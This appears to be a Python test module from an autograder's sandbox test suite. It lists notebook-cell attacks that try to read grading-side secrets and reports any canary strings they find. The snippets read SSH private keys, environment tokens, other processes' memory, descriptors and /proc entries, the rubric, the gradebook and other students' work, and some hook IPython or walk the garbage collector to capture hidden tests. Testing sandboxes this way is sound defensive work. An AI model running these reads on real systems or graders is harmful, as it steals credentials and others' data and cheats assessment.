"""Reading: secrets that lie on the grader's side."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any

from tests.attacks.attack import Attack, beside

LOOT = """
import ctypes, os, re
def loot(data):
    if isinstance(data, str): data = data.encode("utf-8", "replace")
    found = set(re.findall(rb"CANARY-[a-z]+-[0-9a-f]{12}", bytes(data)))
    if found: print(*sorted(text.decode() for text in found))
"""
MEMORY = """
def memory_of(pid):
    for line in open(f"/proc/{pid}/maps"):
        span, mode = line.split()[:2]
        if mode.startswith("rw"):
            first, last = (int(number, 16) for number in span.split("-"))
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(first)
                try: loot(memory.read(min(last - first, 64 << 20)))
                except OSError: pass
"""
LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n"


def reading(name: str, mechanism: str, code: str, gain: str, **others: Any) -> Attack:
    """An attack that prints what it finds; all answers are right."""
    standard: dict[str, Any] = {
        "family": "reading",
        "gain": gain,
        "effect": "loot",
        "shown_in": "no sandbox",
        "needs": "sandbox",
    }
    cells = others.pop("cells", None) or beside("blur", LOOT + code)
    return Attack(name=name, mechanism=mechanism, cells=cells, **{**standard, **others})


def link_to_rubric(folder: Path, words: Mapping[str, str]) -> None:
    (folder / "data.csv").symlink_to(Path(words["COURSE"], "solutions/mini/rubric.py"))


ATTACKS: tuple[Attack, ...] = (
    reading(
        "rubric",
        "It opens the rubric by its path.",
        "loot(open('@COURSE@/solutions/mini/rubric.py').read())",
        "hidden probes and tolerances",
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "references-by-walk",
        "It walks up from where the package lies, or the course, to built sources with solutions.",
        """
for folder, _, names in os.walk("@COURSE@/build"):
    for name in names: loot(open(os.path.join(folder, name), "rb").read())
""",
        "the solutions",
    ),
    reading(
        "other-submission",
        "It opens what another student submitted.",
        "loot(open('@COURSE@/submitted/anna/mini/mini.ipynb').read())",
        "answers to copy",
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "other-evidence",
        "It opens what is kept of another student's run.",
        """
import zlib
data = open("@COURSE@/evidence/mini/submitted/anna/mini.evidence", "rb").read()
for found in re.finditer(rb"\x78\x01", data):
    try: loot(zlib.decompressobj().decompress(data[found.start():]))
    except zlib.error: pass
""",
        "what another notebook printed, and the values in it",
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "gradebook",
        "It asks the gradebook's database.",
        """
import sqlite3
with sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True) as book:
    loot(str(book.execute("select * from canary").fetchall()))
""",
        "everybody's marks, and under nbgrader the hidden tests",
    ),
    reading(
        "home",
        "It reads a key in the grader's home.",
        "loot(open('@HOME@/.ssh/id_ed25519').read())",
        "the grader's keys",
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "environment",
        "It prints the environment that it was started with.",
        "loot(str(dict(os.environ)))",
        "tokens of the machine that grades",
        shown_in="plain nbgrader",
        needs=None,
    ),
    reading(
        "environment-of-others",
        "It reads another process's environment in /proc.",
        "loot(open('/proc/@VICTIM@/environ', 'rb').read())",
        "tokens of other programs",
        refusable=True,
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "open-file-of-others",
        "It opens what another process holds open, though the file has no name any more.",
        "loot(open('/proc/@VICTIM@/fd/@DESCRIPTOR@', 'rb').read())",
        "files that no path leads to",
        refusable=True,
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "folder-of-others",
        "It goes through another process's working directory in /proc.",
        "loot(open('/proc/@VICTIM@/cwd/private.txt', 'rb').read())",
        "files behind a way that is closed",
        refusable=True,
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "root-of-others",
        "It goes through another process's root in /proc, around what is said of paths.",
        "loot(open('/proc/@VICTIM@/root@HOME@/.ssh/id_ed25519', 'rb').read())",
        "files behind a way that is closed",
        refusable=True,
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "memory-of-others",
        "It asks the kernel to copy another process's memory (process_vm_readv).",
        f"""
{LIBC}
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
here = ctypes.create_string_buffer(64)
mine, theirs = Piece(ctypes.addressof(here), 64), Piece(@ADDRESS@, 64)
libc.process_vm_readv(@VICTIM@, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
loot(here.raw)
""",
        "whatever another program knows",
        refusable=True,
        incident="sandbox-refusal",
    ),
    reading(
        "memory-of-the-grader",
        "It reads its parent's memory in /proc.",
        f"{MEMORY}\nmemory_of(os.getppid())",
        "the references, where they are compared",
        refusable=True,
        incident="sandbox-refusal",
    ),
    reading(
        "own-memory",
        "It reads all its own memory, of which it is a copy.",
        f"{MEMORY}\nmemory_of(os.getpid())",
        "what the process held that it was copied from",
        shown_in="plain nbgrader",
        needs=None,
        incident="sandbox-refusal",
    ),
    reading(
        "stolen-descriptor",
        "It takes a descriptor out of another process (pidfd_getfd).",
        f"""
{LIBC}
stolen = libc.syscall(438, os.pidfd_open(@VICTIM@), @DESCRIPTOR@, 0)
loot(os.pread(stolen, 1000, 0))
""",
        "connections and files of another program",
        refusable=True,
        incident="sandbox-refusal",
    ),
    reading(
        "shared-memory",
        "It lists the machine's shared memory and reads it.",
        "loot(open('@SHARED@', 'rb').read())",
        "what other programs share",
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "neighbour-that-runs",
        "It looks in the folder for temporary files for another submission that runs now.",
        """
import glob
for name in glob.glob("@TEMPORARY@/autograder-*/answers.txt"): loot(open(name).read())
""",
        "answers to copy, while they are made",
    ),
    reading(
        "linked-file",
        "A link among the submitted files leads to the rubric.",
        "loot(open('data.csv').read())",
        "the rubric, copied by the grader itself",
        incident="files-left-out",
        lay=link_to_rubric,
        shown_in="plain nbgrader",
        needs=None,
    ),
    reading(
        "link-made-at-run-time",
        "It makes a link to the grader's home in its own folder, where everything may be read.",
        "os.symlink('@HOME@/.ssh/id_ed25519', 'mine.txt')\nloot(open('mine.txt').read())",
        "the grader's keys",
        incident="sandbox-refusal",
    ),
    reading(
        "second-name",
        "It gives a file of the grader's a second name in its own folder.",
        "os.link('@HOME@/.ssh/id_ed25519', 'mine.txt')\nloot(open('mine.txt').read())",
        "the grader's keys",
        refusable=True,
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "renamed-to-here",
        "It moves a file of the grader's into its own folder.",
        "os.rename('@OUTSIDE@/notes.txt', 'notes.txt')\nloot(open('notes.txt').read())",
        "a file that it may not read where it lies",
        incident="sandbox-refusal",
        of_files=True,
    ),
    reading(
        "shell-command",
        "It has the system's own programs read for it.",
        "",
        "the grader's keys",
        cells=beside("blur", "!cat @HOME@/.ssh/id_ed25519"),
        shown_in="plain nbgrader",
        needs=None,
    ),
    reading(
        "source-of-the-check",
        "An IPython event reads the text of each cell that is about to run.",
        "get_ipython().events.register('pre_run_cell', lambda info: loot(info.raw_cell))",
        "the hidden tests",
        shown_in="plain nbgrader",
        needs=None,
    ),
    reading(
        "garbage-collector",
        "While its answer is looked at, it goes through all objects of the process.",
        """
import gc
class Looks:
    def __array__(self, dtype=None, copy=None):
        for held in gc.get_objects():
            if type(held) in (dict, list, tuple):
                for text in held.values() if type(held) is dict else held:
                    if type(text) is str: loot(text)
        return np.ones((3, 3, 1, 1)) / 9
blur = Looks()
""",
        "references and hidden tests, while they are compared",
        shown_in="plain nbgrader",
        needs=None,
    ),
)
